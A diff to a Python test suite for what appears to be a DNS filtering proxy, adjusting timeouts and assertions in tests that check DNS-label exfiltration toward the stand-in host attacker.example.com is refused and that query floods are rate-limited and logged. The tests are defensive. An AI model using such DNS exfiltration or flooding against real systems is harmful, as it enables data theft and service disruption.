@@ -205,7 +205,7 @@ def exfiltrate(n, suffix):
 def test_deny_exfiltration_in_labels(run, world):
     assert set(run.call(exfiltrate, 300, "attacker.example.com")) == {REFUSED}
     told = lambda: sum(r["count"] for r in run.records("dns.refused") if r["name"].endswith("attacker.example.com") or r["rule"] == "overflow")
-    assert wait_for(lambda: told() == 300), told()
+    assert wait_for(lambda: told() == 300, 20), told()
     assert not [q for q in world.log("dns") if "attacker" in json.dumps(q)]
 
 
@@ -308,15 +308,13 @@ def test_deny_flood_is_counted_not_asked(host, anchord, world):
     try:
         assert answer(it, "www.example.org").rcode == NOERROR  # the proxy runs: what comes before may be lost
         counts = it.call(flood, 6000, timeout=60)
-        assert set(counts) <= {REFUSED, SERVFAIL} and counts[REFUSED] > 1000
-        time.sleep(11)                                         # what was aggregated is told after ten seconds
+        assert set(counts) <= {REFUSED, SERVFAIL} and counts[REFUSED] > 200       # a socket's buffer holds so many
+        # each question that arrived stands in the log: those that were answered, and no more than were sent. What was aggregated is told after ten seconds
+        total = lambda: sum(r["count"] for r in it.records("dns.refused"))
+        assert wait_for(lambda: total() >= sum(counts.values()), 30), (counts, total())
         told = it.records("dns.refused")
-        over = sum(r["count"] for r in told if r["reason"] == "rate")
-        assert over > 0
-        # each question that arrived stands in the log: those that were answered, and no more than were sent
-        total = sum(r["count"] for r in told)
-        assert sum(counts.values()) <= total <= 6000, (counts, total)
-        assert len(told) < 500
+        assert sum(r["count"] for r in told) <= 6000 and len(told) < 500
+        assert sum(r["count"] for r in told if r["reason"] == "rate") > 0
         assert answer(it, "www.example.org").rcode == NOERROR
     finally:
         it.stop()
